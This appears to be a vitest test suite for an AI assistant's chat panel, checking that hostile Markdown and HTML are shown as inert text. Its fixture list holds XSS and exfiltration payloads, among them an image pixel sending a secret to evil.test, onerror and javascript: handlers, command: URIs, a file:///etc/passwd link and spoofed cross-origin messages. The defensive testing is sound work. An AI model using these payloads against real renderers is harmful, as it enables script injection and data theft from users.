import { afterEach, beforeAll, describe, expect, test } from 'vitest';
import { PanelRig, postsOf, showAnswer } from './rig.js';

let rig: PanelRig;

beforeAll(async () => {
  rig = await PanelRig.start();
});
afterEach(() => rig.closePages());

describe('hostile text', () => {
  const HOSTILE = [
    '![pixel](https://evil.test/?q=SECRET) ![](http://evil.test/a.png)',
    '<img src="https://evil.test/b.png" srcset="https://evil.test/c 2x" onerror="alert(1)">',
    '<video poster="https://evil.test/d"></video><link rel=prefetch href="https://evil.test/e"><base href="https://evil.test/">',
    '<svg><image href="https://evil.test/f"/><use href="https://evil.test/g#x"/></svg>',
    '<style>@import url(https://evil.test/h); * { background: url(https://evil.test/i) }</style>',
    '<script>alert(1)</script><iframe srcdoc="<script>alert(1)</script>"></iframe><form action="https://evil.test/"><input></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/j">',
    '[command](command:workbench.action.quit) [js](javascript:alert(1)) [vs](vscode://x) [file](file:///etc/passwd) [data](data:text/html,x) [rel](src/a.ts)',
    '`<img src=x onerror=alert(1)>` **<b onclick=alert(1)>bold</b>** &lt;script&gt;alert(1)&lt;/script&gt; <javascript:alert(1)>',
    '[x](https://evil.test/"onmouseover="alert(1)) [y](java&#115;cript:alert(1)) [z](<javascript:alert(1)> "t")',
    '```html"onload="alert(1)\n</code></pre><img src=https://evil.test/k>\n```',
    '| <img src=https://evil.test/l> | b |\n|---|---|\n| [c](command:x) | <script>1</script> |',
  ];

  test('view-01 view-02 view-04 view-05 nothing is loaded, run or made into an element', async () => {
    const page = await rig.open({ own: true });
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    for (const streamed of [false, true]) {
      const text = HOSTILE.join('\n\n');
      if (streamed) {
        await page.evaluate(() => globalThis.panelHost.scene('empty'));
        await page.evaluate((value) => {
          const host = globalThis.panelHost;
          host.events(
            { type: 'item_added', item: { kind: 'answer', id: 's', blocks: [{ type: 'text', text: '' }], status: 'streaming', time: '', summary: '' } },
            ...Array.from(value.match(/[^]{1,7}/g) ?? [], (delta) => ({ type: 'delta' as const, item: 's', block: 0, delta })),
            { type: 'answer_status', item: 's', status: 'complete', summary: '' },
          );
        }, text);
      } else await showAnswer(page, text);
      const article = page.getByRole('article', { name: 'Gnomon' });
      await article.getByRole('table').waitFor();
      const found = await article.evaluate((element) => ({
        elements: [...element.querySelectorAll('img,video,link,base,svg,style,script,iframe,form,input,meta,object,embed,b,audio')]
          // The icons on the panel's own buttons; Markdown can make neither buttons nor roles.
          .filter((each) => each.closest('[role="toolbar"] > button') === null)
          .map((each) => each.outerHTML),
        handlers: [...element.querySelectorAll('*')].flatMap((each) => each.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style')),
        links: [...element.querySelectorAll('a')].map((each) => each.href).filter((href) => !/^https?:/.test(href)),
        shown: element.textContent,
      }));
      expect(found).toMatchObject({ elements: [], handlers: [], links: [] });
      expect(found.shown).toContain('<script>alert(1)</script>');
      expect(found.shown).toContain('<img src="https://evil.test/b.png"');
    }
    expect(dialogs).toEqual([]);
    expect(rig.strangeRequests).toEqual([]);
  });

  test('view-05 in names, titles, output and attachments it is text', async () => {
    const page = await rig.open();
    await page.evaluate((evil) => {
      const call = { id: 'c', name: evil, subject: evil, status: 'failed' as const, output: evil, problem: evil };
      const answer = {
        kind: 'answer' as const,
        id: 'a',
        blocks: [
          { type: 'tool' as const, call },
          { type: 'thinking' as const, text: evil, done: true },
        ],
        status: 'complete' as const,
        time: '',
        summary: evil,
      };
      const user = { kind: 'user' as const, id: 'u', text: evil, images: [evil], time: '' };
      const notice = { kind: 'notice' as const, id: 'n', level: 'error' as const, text: evil, actions: [] };
      const summary = {
        kind: 'compaction' as const,
        id: 's',
        trigger: 'manual' as const,
        summary: evil,
        tokensBefore: 2,
        tokensAfter: 1,
        status: 'active' as const,
      };
      void globalThis.panelHost.show({
        title: evil,
        activity: 'idle',
        model: evil,
        mode: evil,
        usage: evil,
        todos: [{ text: evil, status: 'done' }],
        instructions: { files: [{ display: evil, tokens: 1, hidden: evil, truncated: true }], leftOut: [{ display: evil, reason: evil, needsConsent: true }] },
        changes: [{ path: evil, display: evil, status: 'changed' }],
        retry: { reason: evil, attempt: 1, maxAttempts: 2, at: Date.now() + 9e5 },
        items: [user, answer, notice, summary],
      });
      globalThis.panelHost.post({ type: 'attachments', attachments: [{ id: 'x', name: evil, kind: 'file' }] });
      globalThis.panelHost.post({
        type: 'choices',
        models: [{ id: evil, label: evil, group: evil, key: evil }],
        automatic: [{ id: evil, label: evil, description: evil }],
        modes: [{ id: evil, label: evil, description: evil }],
        agents: [{ id: evil, label: evil, description: evil }],
        efforts: [{ id: evil, label: evil }],
      });
    }, '<img src=https://evil.test/z onerror=alert(1)>');
    await page.getByRole('article', { name: 'You' }).waitFor();
    await page.locator('.call button').click();
    await page.getByRole('button', { name: 'Thinking', exact: true }).click();
    await page.locator('.output').waitFor();
    expect(await page.locator('img').count()).toBe(0);
    expect(rig.strangeRequests).toEqual([]);
  });

  test('view-04 a link of the web goes to the host whole, and the page stays where it is', async () => {
    const page = await rig.open({ own: true });
    await showAnswer(page, 'See [here](https://example.com/a?b=1#c) and [there](command:quit).');
    const before = page.url();
    await page.getByRole('link', { name: 'here' }).click();
    await page.getByRole('link', { name: 'here' }).click({ button: 'middle' });
    await page.getByText('there').click();
    expect(await postsOf(page)).toEqual([{ type: 'open_link', url: 'https://example.com/a?b=1#c' }]);
    expect(page.url()).toBe(before);
    expect(page.context().pages()).toHaveLength(1);
  });

  test('view-11 messages of another origin or a frame are ignored', async () => {
    const page = await rig.open({ scene: 'empty' });
    await page.evaluate(() => {
      const data = { type: 'rejected', sendId: 'x', reason: 'evil' };
      window.dispatchEvent(
        new MessageEvent('message', {
          data: {
            type: 'snapshot',
            session: 'x',
            epoch: 'x',
            seq: 0,
            state: {
              title: 'evil',
              activity: 'idle',
              model: '',
              mode: '',
              usage: '',
              effort: 'off',
              hookStatus: '',
              retry: null,
              changes: [],
              todos: [],
              elves: [],
              instructions: [],
              items: [],
            },
          },
          origin: 'https://evil.test',
        }),
      );
      window.dispatchEvent(new MessageEvent('message', { data, origin: 'null' }));
      // Messages are taken in order: once this one shows, the others have been dealt with.
      globalThis.panelHost.events({ type: 'meta', patch: { title: 'honest' } });
    });
    await page.getByRole('heading', { level: 1, name: 'honest' }).waitFor();
    expect(await page.getByText('evil').count()).toBe(0);
  });
});
